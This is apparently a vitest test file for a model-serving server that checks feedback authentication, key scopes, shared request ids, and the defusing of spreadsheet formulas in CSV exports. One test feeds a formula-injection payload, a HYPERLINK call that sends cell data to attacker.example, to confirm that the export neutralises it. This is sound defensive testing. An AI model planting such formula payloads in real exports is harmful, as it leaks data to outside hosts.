/**
 * Hostile traffic, feedback: labels train the next model and judge challengers, so nobody sends them
 * anonymously; a `feedback` key sends labels and nothing else; a client-chosen request id shared by
 * two models keeps both rows; and the labelled rows runners download defuse spreadsheet formulas.
 * Against the real Node server, through fetch and the typed client.
 */
import Papa from 'papaparse';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EdgeClient } from '../../core/api/client';
import { unescapeFormulaCell } from '../../core/data/csv-formula';
import { startNodeEdge, type RunningEdge } from '../../edge/runtime/node';
import { fixtures, PENGUIN } from '../contract/fixtures';

let edge: RunningEdge;
let dir: string;
let admin: EdgeClient;
let feedbackKey: string;

beforeAll(async () => {
  const fx = await fixtures();
  dir = await mkdtemp(path.join(tmpdir(), 'flywheel-hostile-feedback-'));
  edge = await startNodeEdge({ port: 0, dataDir: dir, version: 'test', autoTick: false });
  admin = new EdgeClient(edge.url, { key: edge.adminKey! });
  await admin.publish('penguins', fx.penguins);
  await admin.publish('penguins-b', fx.penguins);
  await admin.publish('secret-penguins', fx.penguins);
  await fetch(`${edge.url}/v1/models/secret-penguins`, {
    method: 'PATCH',
    body: JSON.stringify({ private: true }),
    headers: { 'content-type': 'application/json', authorization: `Bearer ${edge.adminKey}` },
  });
  feedbackKey = (await edge.services.keys.create('feedback', 'labelling service')).key;
}, 120_000);
afterAll(async () => {
  await edge?.close();
  await rm(dir, { recursive: true, force: true });
});

const post = (p: string, body: unknown, headers: Record<string, string> = {}) =>
  fetch(`${edge.url}${p}`, {
    method: 'POST',
    body: JSON.stringify(body),
    headers: { 'content-type': 'application/json', ...headers },
  });
const bearer = (key: string) => ({ authorization: `Bearer ${key}` });

async function predictOne(model: string, instance: object, headers: Record<string, string> = {}): Promise<string> {
  const res = await post(`/v1/models/${model}/predict`, { instances: [instance] }, headers);
  expect(res.status).toBe(200);
  return ((await res.json()) as { request_ids: string[] }).request_ids[0];
}

describe('feedback under hostile traffic', () => {
  it('refuses anonymous feedback to a public model with 401, naming the key it needs, and records nothing', async () => {
    const id = await predictOne('penguins', PENGUIN);
    const res = await post('/v1/models/penguins/feedback', { items: [{ request_id: id, label: 'Adelie' }] });
    expect(res.status).toBe(401);
    const body = (await res.json()) as { error: { code: string; message: string } };
    expect(body.error).toMatchObject({
      code: 'unauthorized',
      message:
        'feedback needs an API key with the "feedback" or "predict" scope (Authorization: Bearer <key>): labels train the next model, so they are never anonymous',
    });
    expect(await edge.services.db.first('SELECT 1 AS x FROM feedback WHERE request_id = ?', [id])).toBeNull();
  });

  it('takes labels from a feedback key, which can do nothing else', async () => {
    const id = await predictOne('penguins', PENGUIN);
    const res = await post(
      '/v1/models/penguins/feedback',
      { items: [{ request_id: id, label: 'Adelie' }] },
      bearer(feedbackKey),
    );
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ accepted: 1, unmatched: [], duplicates: [] });
    expect(
      (await post('/v1/models/secret-penguins/predict', { instances: [PENGUIN] }, bearer(feedbackKey))).status,
    ).toBe(403);
    expect((await fetch(`${edge.url}/v1/models/secret-penguins`, { headers: bearer(feedbackKey) })).status).toBe(403);
    const publish = await fetch(`${edge.url}/v1/models/penguins/versions`, {
      method: 'POST',
      body: new Uint8Array([0x50, 0x4b]),
      headers: { 'content-type': 'application/zip', ...bearer(feedbackKey) },
    });
    expect(publish.status).toBe(403);
  });

  it('keeps both log rows when two models are served under one client-chosen x-request-id, and matches each one’s feedback', async () => {
    const shared = { 'x-request-id': 'client-chosen-id-0001' };
    expect(await predictOne('penguins', PENGUIN, shared)).toBe('client-chosen-id-0001');
    expect(await predictOne('penguins-b', PENGUIN, shared)).toBe('client-chosen-id-0001');
    const labeller = new EdgeClient(edge.url, { key: feedbackKey });
    expect(await labeller.feedback('penguins', [{ request_id: 'client-chosen-id-0001', label: 'Gentoo' }])).toEqual({
      accepted: 1,
      unmatched: [],
      duplicates: [],
    });
    expect(await labeller.feedback('penguins-b', [{ request_id: 'client-chosen-id-0001', label: 'Gentoo' }])).toEqual({
      accepted: 1,
      unmatched: [],
      duplicates: [],
    });
  });

  it('exports labelled rows with formula cells defused and numbers left numeric, which runners read back exactly', async () => {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
    const hostile = { ...PENGUIN, Island: formula, Sex: '@SUM(1+1)', 'Beak Length (mm)': -3.2 };
    const items = [];
    for (let i = 0; i < 20; i++) items.push({ request_id: await predictOne('penguins-b', hostile), label: 'Gentoo' });
    // A formula for a label is not one of the classifier's classes: refused before anything is written.
    const formulaLabel = await admin
      .feedback('penguins-b', [{ request_id: items[0].request_id, label: '+Gentoo' }])
      .then(
        () => null,
        (e: unknown) => e as Error,
      );
    expect(formulaLabel?.message).toContain('items[0].label: "+Gentoo" is not a class of the model');
    expect((await admin.feedback('penguins-b', items)).accepted).toBe(20);

    const csv = await admin.feedbackData('/v1/models/penguins-b/feedback-data');
    const raw = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: 'greedy' }).data.filter(
      (r) => r.Island !== 'Biscoe',
    );
    // One row in five is kept back for verification: most of the 20 are exported.
    expect(raw.length).toBeGreaterThan(5);
    for (const row of raw) {
      expect(row).toMatchObject({
        Island: `'${formula}`,
        Sex: "'@SUM(1+1)",
        'Beak Length (mm)': '-3.2',
        Species: 'Gentoo',
      });
    }
    const read = Papa.parse<Record<string, string>>(csv, {
      header: true,
      skipEmptyLines: 'greedy',
      transformHeader: unescapeFormulaCell,
      transform: unescapeFormulaCell,
    }).data.filter((r) => r.Island !== 'Biscoe');
    expect(read[0]).toMatchObject({
      Island: formula,
      Sex: '@SUM(1+1)',
      'Beak Length (mm)': '-3.2',
      Species: 'Gentoo',
    });
  });
});
